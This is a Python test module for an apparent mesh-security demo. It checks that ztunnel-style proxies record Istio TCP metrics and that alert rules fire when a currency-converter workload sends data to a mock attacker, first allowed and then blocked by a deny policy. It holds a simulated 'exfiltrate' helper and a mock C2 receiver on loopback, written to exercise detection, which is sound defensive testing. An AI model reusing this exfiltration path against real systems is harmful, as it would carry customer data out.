"""The node proxies' `istio_tcp_*` series are real ztunnel's: same counters, labels, moments, flags.

Two node proxies run in-process on 127.0.0.1 addresses: the converter's (outbound capture,
reached with a real SOCKS5 CONNECT) and the attacker's (HBONE inbound with real mTLS, an
echo app behind it), with deploy/'s own `deny-bank-to-attacker` for Act 3. What real ztunnel
records (src/proxy/metrics.rs, inbound.rs, outbound.rs) is the expectation: opened with
`response_flags="-"` before the answer, closed once with the flag, `DENY` only at the
destination, `CONNECT` at the source for a refused CONNECT, and no `istio_requests_total`.

The series are then scraped as Prometheus would and the shipped alert rules evaluated on
them twice: as the embedded evaluator sees the node proxies, and as a cluster's Prometheus
sees real ztunnel (Istio's series only). Both must fire each alert once.
"""

from __future__ import annotations

import asyncio
import functools
import random
import struct
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml
from opentelemetry.trace import NoOpTracer
from prometheus_client import CollectorRegistry

from tests.alerts.helpers import deploy_groups
from tests.mesh.identities import CONVERTER
from tests.mesh.secrets import secrets_for
from tests.paths import DEPLOY
from tests.serving import serving
from trustusbank.alerts.evaluator import RuleEvaluator
from trustusbank.alerts.scrape import Scraper
from trustusbank.alerts.targets import Target
from trustusbank.cluster.ports import HBONE_PORT
from trustusbank.cluster.topology import (
    NamespaceEntry,
    Node,
    Pod,
    PodPort,
    ServiceEntry,
    ServicePort,
    Topology,
)
from trustusbank.manifests.istio.objects import AuthorizationPolicy, PeerAuthentication
from trustusbank.mesh.identity import CertificateAuthority, SecretManager, SpiffeId
from trustusbank.mesh.ztunnel.access_log import AccessLog, ConnectionRecord
from trustusbank.mesh.ztunnel.inbound import Inbound
from trustusbank.mesh.ztunnel.metrics import ZtunnelMetrics
from trustusbank.mesh.ztunnel.outbound import Outbound
from trustusbank.mesh.ztunnel.socks import Reply
from trustusbank.promql.ast import metric_names
from trustusbank.promql.series import SeriesStore
from trustusbank.telemetry.admin import control_app

DEADLINE = 20  # a guard against hanging, never an assertion about speed
VENDORS, ATTACKER_NS = "trustusbank-bank-vendors", "external-attacker"
ATTACKER = SpiffeId("cluster.local", ATTACKER_NS, "mock-attacker")
ATTACKER_HOST = f"mock-attacker.{ATTACKER_NS}.svc.cluster.local"
DENY_POLICY = f"{ATTACKER_NS}/deny-bank-to-attacker"
ANSWER = b"stolen: "  # the attacker's app answers more than it was sent, so the directions differ


def deny_bank_to_attacker() -> AuthorizationPolicy:
    body = yaml.safe_load((DEPLOY / "08-defence" / "deny-bank-to-attacker.yaml").read_text())
    return AuthorizationPolicy.from_spec(
        body["metadata"]["name"], body["metadata"]["namespace"], body["spec"]
    )


@dataclass
class Policies:
    """What the node proxy reads from its PolicyStore."""

    authorization: list[AuthorizationPolicy] = field(default_factory=list)
    peer_authentication: list[PeerAuthentication] = field(default_factory=list)
    error: str | None = None


class WatchedLog(AccessLog):
    """The real access log, which also wakes a test waiting for a connection to end."""

    def __init__(self, path: Path, node: str) -> None:
        super().__init__(path, node)
        self.lines = 0
        self._grew = asyncio.Event()

    def write(self, record: ConnectionRecord) -> None:
        super().write(record)
        self.lines += 1
        self._grew.set()

    async def until(self, lines: int) -> None:
        """Until `lines` records are written (each once its connection is over, metrics recorded)."""
        async with asyncio.timeout(DEADLINE):
            while self.lines < lines:
                self._grew.clear()
                await self._grew.wait()


class NodeProxy:
    """The parts of a NodeProxy that Inbound and Outbound use, with real log, metrics and certificates."""

    def __init__(self, name: str, topology: Topology, secrets: SecretManager, log_dir: Path) -> None:
        self.policies = Policies()
        self.access = WatchedLog(log_dir / f"ztunnel-{name}.jsonl", name)
        self.metrics = ZtunnelMetrics()
        self.topology = topology
        self.secrets = secrets
        self.namespaces: dict[str, object] = {}

    def identity(self, pod: Pod) -> SpiffeId:
        return SpiffeId(self.topology.trust_domain, pod.namespace, pod.service_account)

    def sample(self, metric: str, **labels: str) -> float:
        return self.metrics.registry.get_sample_value(metric, labels) or 0.0

    def series(self, metric: str) -> list[dict[str, str]]:
        """The label sets of `metric`'s samples, as /metrics shows them."""
        return [
            s.labels for family in self.metrics.registry.collect() for s in family.samples if s.name == metric
        ]

    async def logged(self, lines: int) -> None:
        await self.access.until(lines)


@dataclass
class Mesh:
    source: NodeProxy  # the converter's node
    destination: NodeProxy  # the attacker's node
    capture_port: int  # the converter's outbound capture (SOCKS5)


async def receiver(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The attacker's C2: takes everything, then answers with it."""
    writer.write(ANSWER + await reader.read())
    await writer.drain()
    writer.close()


def topology(base: str, attacker_port: int) -> Topology:
    """The converter and the attacker, ambient pods on two nodes; `base` is their /24."""
    converter = Pod(
        "currency-converter-0", VENDORS, "currency-converter", "currency-converter",
        {"app": "currency-converter", "version": "1.0.0"}, "node-a", f"{base}.10", f"{base}.138",
        [PodPort("http", 8080)], "localhost:5001/acme-fx/currency-converter:1.0.0",
    )  # fmt: skip
    attacker = Pod(
        "mock-attacker-0", ATTACKER_NS, "mock-attacker", "mock-attacker",
        {"app": "mock-attacker", "version": "1.0.0"}, "node-b", f"{base}.20", f"{base}.148",
        [PodPort("http", attacker_port)], "localhost:5001/trustusbank/mock-attacker:1.0.0",
    )  # fmt: skip
    return Topology(
        subnet=int(base.split(".")[1]),
        nodes=[Node("node-a", "worker", 1, f"{base}.1"), Node("node-b", "worker", 2, f"{base}.2")],
        namespaces={ns: NamespaceEntry(ns, True, None) for ns in (VENDORS, ATTACKER_NS)},
        pods=[converter, attacker],
        services=[
            ServiceEntry(
                "mock-attacker", ATTACKER_NS, [ServicePort("http", 8080, "http")], [attacker.name], None
            )
        ],
    )


@pytest.fixture
async def mesh(tmp_path: Path) -> AsyncIterator[Mesh]:
    # Pods of their own in 127/8 (HBONE's port is fixed), away from the embedded cluster's 127.10/16.
    base = f"127.{random.randrange(200, 255)}.{random.randrange(1, 255)}"
    app = await asyncio.start_server(receiver, f"{base}.148", 0)
    world = topology(base, app.sockets[0].getsockname()[1])
    converter, attacker = world.pods
    ca = CertificateAuthority.load_or_create(tmp_path / "ca")
    secrets = await secrets_for(ca, tmp_path / "certs", CONVERTER, ATTACKER)
    source = NodeProxy("node-a", world, secrets, tmp_path)
    destination = NodeProxy("node-b", world, secrets, tmp_path)
    # The stand-ins provide what Inbound/Outbound read of a NodeProxy.
    hbone = await Inbound(destination, NoOpTracer()).serve_hbone(attacker, ATTACKER, HBONE_PORT)  # type: ignore[arg-type]
    outbound = Outbound(source, NoOpTracer())  # type: ignore[arg-type]
    capture = await asyncio.start_server(functools.partial(outbound.handle, converter), "127.0.0.1", 0)
    yield Mesh(source, destination, capture.sockets[0].getsockname()[1])
    for server in (capture, hbone, app):
        server.close()


async def connect(mesh: Mesh) -> tuple[Reply, asyncio.StreamReader, asyncio.StreamWriter]:
    """The converter's SOCKS5 CONNECT to the attacker's Service; the capture's reply code."""
    reader, writer = await asyncio.open_connection("127.0.0.1", mesh.capture_port)
    name = ATTACKER_HOST.encode()
    writer.write(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack("!H", 8080))
    async with asyncio.timeout(DEADLINE):
        assert await reader.readexactly(2) == b"\x05\x00"
        answer = await reader.readexactly(10)
    return Reply(answer[1]), reader, writer


async def exfiltrate(mesh: Mesh, data: bytes) -> Reply:
    code, reader, writer = await connect(mesh)
    if code == Reply.SUCCEEDED:
        writer.write(data)
        writer.write_eof()
        async with asyncio.timeout(DEADLINE):
            assert await reader.read() == ANSWER + data
    writer.close()
    return code


def peer(reporter: str, flags: str) -> dict[str, str]:
    """The labels the alert rules and dashboard read, as ztunnel writes them for this connection."""
    return {
        "reporter": reporter,
        "response_flags": flags,
        "source_workload": "currency-converter",
        "source_workload_namespace": VENDORS,
        "source_principal": CONVERTER.uri,
        "destination_workload": "mock-attacker",
        "destination_workload_namespace": ATTACKER_NS,
        "destination_principal": ATTACKER.uri,
        "connection_security_policy": "mutual_tls",
        "request_protocol": "tcp",
    }


def matching(node: NodeProxy, metric: str, **wanted: str) -> float:
    """The sum of `metric` over its series carrying every `wanted` label (others free)."""
    return sum(
        s.value
        for family in node.metrics.registry.collect()
        for s in family.samples
        if s.name == metric and all(s.labels.get(k) == v for k, v in wanted.items())
    )


async def test_an_allowed_connection_is_opened_and_closed_with_no_flag_on_both_sides(mesh: Mesh) -> None:
    assert await exfiltrate(mesh, b"customer profile") == Reply.SUCCEEDED
    await mesh.source.logged(1)
    await mesh.destination.logged(1)

    for node, reporter in ((mesh.source, "source"), (mesh.destination, "destination")):
        [opened] = node.series("istio_tcp_connections_opened_total")
        assert opened.items() >= peer(reporter, "-").items()
        assert node.series("istio_tcp_connections_closed_total") == [opened]
        assert node.series("istio_tcp_connections_failed_total") == []
        assert node.sample("istio_tcp_connections_opened_total", **opened) == 1
        assert node.sample("istio_tcp_connections_closed_total", **opened) == 1
        # Istio's sense for either reporter: received is the request, sent the answer.
        assert node.sample("istio_tcp_received_bytes_total", **opened) == len(b"customer profile")
        assert node.sample("istio_tcp_sent_bytes_total", **opened) == len(ANSWER + b"customer profile")
        assert node.series("istio_requests_total") == []  # ztunnel has no request metric
    [source] = mesh.source.series("istio_tcp_connections_opened_total")
    assert (source["destination_service"], source["destination_service_name"]) == (
        ATTACKER_HOST,
        "mock-attacker",
    )
    assert (source["source_canonical_service"], source["source_canonical_revision"]) == (
        "currency-converter",
        "1.0.0",
    )
    assert matching(mesh.source, "trustusbank_outbound_attempts_total", outcome="allowed") == 1


async def test_a_refusal_is_deny_at_the_destination_and_connect_at_the_source(mesh: Mesh) -> None:
    mesh.destination.policies.authorization = [deny_bank_to_attacker()]
    assert await exfiltrate(mesh, b"customer profile") == Reply.NOT_ALLOWED
    await mesh.source.logged(1)
    await mesh.destination.logged(1)

    # The destination: opened before policy was asked, closed (and failed) as DENY.
    dst = mesh.destination
    assert matching(dst, "istio_tcp_connections_opened_total", **peer("destination", "-")) == 1
    assert matching(dst, "istio_tcp_connections_closed_total", **peer("destination", "DENY")) == 1
    assert matching(dst, "istio_tcp_connections_failed_total", **peer("destination", "DENY")) == 1
    assert matching(dst, "istio_tcp_connections_closed_total", response_flags="-") == 0
    assert matching(dst, "trustusbank_authz_denials_total", policy=DENY_POLICY) == 1
    # The source only saw its CONNECT answered 401: a connection failure, never DENY.
    src = mesh.source
    assert matching(src, "istio_tcp_connections_opened_total", **peer("source", "-")) == 1
    assert matching(src, "istio_tcp_connections_closed_total", **peer("source", "CONNECT")) == 1
    assert matching(src, "istio_tcp_connections_failed_total", **peer("source", "CONNECT")) == 1
    assert matching(src, "istio_tcp_connections_closed_total", response_flags="DENY") == 0
    assert matching(src, "trustusbank_outbound_attempts_total", outcome="denied") == 1
    for node in (src, dst):
        assert node.sample("trustusbank_ztunnel_info") == 1


async def alerts(mesh: Mesh, *, cluster: bool) -> list[dict[str, str]]:
    """The alerts the shipped rules fire on both node proxies' /metrics, scraped before and after
    Act 2 and Act 3; `cluster` keeps only what real ztunnel exports (no trustusbank_* series)."""
    groups = deploy_groups()
    wanted = {name for g in groups for r in g.rules for name in metric_names(r.expr)}
    if cluster:
        wanted = {name for name in wanted if not name.startswith("trustusbank_")}
    store = SeriesStore()
    evaluator = RuleEvaluator(groups, store)
    scraper = Scraper(store, wanted)
    registries: list[CollectorRegistry] = [mesh.source.metrics.registry, mesh.destination.metrics.registry]
    try:
        async with (
            serving(control_app(registries[0], lambda: True)) as a,
            serving(control_app(registries[1], lambda: True)) as b,
        ):
            targets = [Target("ztunnel", f"{a}/metrics"), Target("ztunnel", f"{b}/metrics")]
            await scraper.scrape(targets, t=1000)
            evaluator.evaluate(1000)
            assert await exfiltrate(mesh, b"act 2") == Reply.SUCCEEDED
            mesh.destination.policies.authorization = [deny_bank_to_attacker()]
            assert await exfiltrate(mesh, b"act 3") == Reply.NOT_ALLOWED
            await mesh.source.logged(2)
            await mesh.destination.logged(2)
            await scraper.scrape(targets, t=1060)
            evaluator.evaluate(1060)
    finally:
        await scraper.close()
    return [
        {"alertname": a.name, **dict(a.labels), "summary": a.annotations["summary"]}
        for a in evaluator.firing()
        if a.name != "KagentAccessPolicyDeny"
    ]


async def test_on_our_counters_each_alert_fires_once_per_outcome_with_the_policy(mesh: Mesh) -> None:
    fired = await alerts(mesh, cluster=False)
    denials = [a for a in fired if a["alertname"] == "IstioAuthZDeny"]
    attempts = [a for a in fired if a["alertname"] == "BankToAttackerAttempt"]
    assert [(a["policy"], a["source_principal"], a["destination_workload"]) for a in denials] == [
        (DENY_POLICY, CONVERTER.uri, "mock-attacker")
    ]
    assert sorted(a["outcome"] for a in attempts) == ["allowed", "denied"]


async def test_on_istio_series_alone_each_alert_fires_once_as_on_a_cluster(mesh: Mesh) -> None:
    fired = await alerts(mesh, cluster=True)
    offender = f"{VENDORS}-currency-converter"
    [denial] = [a for a in fired if a["alertname"] == "IstioAuthZDeny"]
    assert {k: denial[k] for k in ("source_principal", "destination_workload", "offender")} == {
        "source_principal": CONVERTER.uri,
        "destination_workload": "mock-attacker",
        "offender": offender,
    }
    assert "policy" not in denial
    assert "reason" not in denial
    assert denial["summary"].endswith("external-attacker/mock-attacker: denied by AuthorizationPolicy")
    [attempt] = [a for a in fired if a["alertname"] == "BankToAttackerAttempt"]
    assert (attempt["source_workload"], attempt["offender"], "outcome" in attempt) == (
        "currency-converter",
        offender,
        False,
    )
    assert attempt["summary"] == f"{CONVERTER.uri} tried to reach external-attacker/mock-attacker"
